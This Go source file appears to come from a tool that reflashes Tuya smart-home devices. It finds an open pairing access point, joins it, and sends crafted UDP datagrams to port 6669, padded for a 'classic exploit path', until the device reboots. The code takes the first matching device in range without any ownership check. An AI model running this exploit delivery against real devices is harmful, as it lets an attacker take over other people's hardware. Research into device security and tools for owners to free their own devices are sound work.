package apcfg

import (
	"context"
	"fmt"
	"net"
	"regexp"
	"time"

	"cloudcutter/internal/apnet"
	"cloudcutter/internal/events"
	"cloudcutter/internal/logging"
	"cloudcutter/internal/metrics"
)

// targetPort is the fixed UDP port every Tuya ApCfg listener binds.
const targetPort = 6669

// pollInterval is how often the state machine re-checks a condition
// it's waiting on (link down, IP assigned, ping response, ...).
var pollInterval = time.Second

// ssidPattern matches the smartlife-XXXX-style naming convention Tuya
// pairing APs broadcast: a name, a dash, then four uppercase hex
// digits.
var ssidPattern = regexp.MustCompile(`^.+-[A-F0-9]{4}$`)

// Client drives one interface through the full ApCfg handoff: find an
// unconfigured pairing AP, associate with it, then repeatedly burst a
// crafted datagram at the device until it reboots.
type Client struct {
	wifi  apnet.WifiAdapter
	net   apnet.NetworkAdapter
	bus   *events.Bus
	iface apnet.Interface
	log   *logging.Logger
}

// NewClient builds a Client for the given interface.
func NewClient(wifi apnet.WifiAdapter, network apnet.NetworkAdapter, bus *events.Bus, iface apnet.Interface) *Client {
	return &Client{
		wifi:  wifi,
		net:   network,
		bus:   bus,
		iface: iface,
		log:   logging.Default().WithComponent("apcfg"),
	}
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}

// findTarget scans until it sees an open network whose SSID matches
// the Tuya pairing-AP convention.
func (c *Client) findTarget(ctx context.Context) (apnet.WifiNetwork, error) {
	for {
		networks, err := c.wifi.ScanNetworks(ctx, c.iface)
		if err != nil {
			return apnet.WifiNetwork{}, fmt.Errorf("scan networks: %w", err)
		}
		for _, n := range networks {
			if n.Protected() {
				continue
			}
			if !ssidPattern.MatchString(n.SSID) {
				continue
			}
			return n, nil
		}
		c.log.Debug("no matching pairing AP found, rescanning", "seen", len(networks))
		if err := sleepCtx(ctx, 2*time.Second); err != nil {
			return apnet.WifiNetwork{}, err
		}
	}
}

// Run executes the full handoff: scan, associate, wait for IP and
// ping, transmit the given payload (already frame-encoded bytes would
// be wrong here — Run does the framing itself), and wait for the
// device to drop off Wi-Fi once it reboots.
//
// addressDatagram is only set for the classic exploit path; when
// present, the packed frame is padded out to 256 bytes with repeats
// of it before transmission.
func (c *Client) Run(ctx context.Context, payload []byte, addressDatagram []byte) error {
	target, err := c.findTarget(ctx)
	if err != nil {
		return err
	}
	c.bus.Publish(&events.ApCfgFoundEvent{SSID: target.SSID})

	c.log.Debug("disconnecting from current network")
	if err := c.wifi.StopStation(ctx, c.iface); err != nil {
		return fmt.Errorf("stop station: %w", err)
	}
	for {
		state, err := c.wifi.StationState(ctx, c.iface)
		if err != nil {
			return fmt.Errorf("station state: %w", err)
		}
		if state == nil {
			break
		}
		c.log.Debug("waiting for disconnection")
		if err := sleepCtx(ctx, pollInterval); err != nil {
			return err
		}
	}

	if _, err := c.net.GetIP4Config(ctx, c.iface); err != nil {
		return fmt.Errorf("read ip config: %w", err)
	}

	c.log.Debug("connecting to pairing AP", "ssid", target.SSID)
	if err := c.wifi.StartStation(ctx, c.iface, target); err != nil {
		return fmt.Errorf("start station: %w", err)
	}

	var station *apnet.WifiNetwork
	for {
		station, err = c.wifi.StationState(ctx, c.iface)
		if err != nil {
			return fmt.Errorf("station state: %w", err)
		}
		if station != nil {
			break
		}
		c.log.Debug("waiting for association")
		if err := sleepCtx(ctx, pollInterval); err != nil {
			return err
		}
	}
	c.log.Debug("connected", "ssid", station.SSID)

	var cfg *apnet.Ip4Config
	for {
		cfg, err = c.net.GetIP4Config(ctx, c.iface)
		if err != nil {
			return fmt.Errorf("get ip config: %w", err)
		}
		if cfg != nil {
			break
		}
		c.log.Debug("waiting for ip address")
		if err := sleepCtx(ctx, pollInterval); err != nil {
			return err
		}
	}
	c.bus.Publish(&events.ApCfgConnectedEvent{SSID: station.SSID, Address: cfg.Address})

	targetAddr, err := cfg.FirstHost()
	if err != nil {
		return fmt.Errorf("compute target address: %w", err)
	}

	var rtt time.Duration
	for {
		r, ok, err := c.net.Ping(ctx, targetAddr)
		if err != nil {
			return fmt.Errorf("ping: %w", err)
		}
		if ok {
			rtt = r
			break
		}
		c.log.Debug("waiting for ping")
		if err := sleepCtx(ctx, pollInterval); err != nil {
			return err
		}
	}
	c.bus.Publish(&events.ApCfgReadyEvent{SSID: target.SSID, Address: targetAddr, PingRTT: rtt})

	frame := NewFrame(payload)
	datagram := frame.Pack()
	phase := "wifi_network"
	if len(addressDatagram) > 0 {
		datagram = PadDatagram(datagram, addressDatagram)
		phase = "classic_profile"
	}

	for {
		_, ok, err := c.net.Ping(ctx, targetAddr)
		if err != nil {
			return fmt.Errorf("ping: %w", err)
		}
		if !ok {
			break
		}
		if err := c.sendBurst(ctx, targetAddr, datagram); err != nil {
			return err
		}
		metrics.Get().RecordApCfgFrameSent(phase)
		c.bus.Publish(&events.ApCfgSentEvent{SSID: target.SSID, Address: targetAddr, Port: targetPort})
	}

	c.log.Debug("device no longer responds, waiting for wifi disconnection")
	for {
		station, err := c.wifi.StationState(ctx, c.iface)
		if err != nil {
			return fmt.Errorf("station state: %w", err)
		}
		if station == nil || station.SSID != target.SSID {
			break
		}
		if err := sleepCtx(ctx, pollInterval); err != nil {
			return err
		}
	}
	c.bus.Publish(&events.ApCfgFinishedEvent{SSID: target.SSID, Address: targetAddr})
	return nil
}

// sendBurst sends datagram 5 times, 200ms apart, to addr:targetPort.
func (c *Client) sendBurst(ctx context.Context, addr net.IP, datagram []byte) error {
	conn, err := net.DialUDP("udp4", nil, &net.UDPAddr{IP: addr, Port: targetPort})
	if err != nil {
		return fmt.Errorf("dial %s:%d: %w", addr, targetPort, err)
	}
	defer conn.Close()

	for i := 0; i < 5; i++ {
		c.log.Debug("sending apcfg datagram", "n", i+1, "addr", addr.String())
		if _, err := conn.Write(datagram); err != nil {
			return fmt.Errorf("send datagram: %w", err)
		}
		if err := sleepCtx(ctx, 200*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}
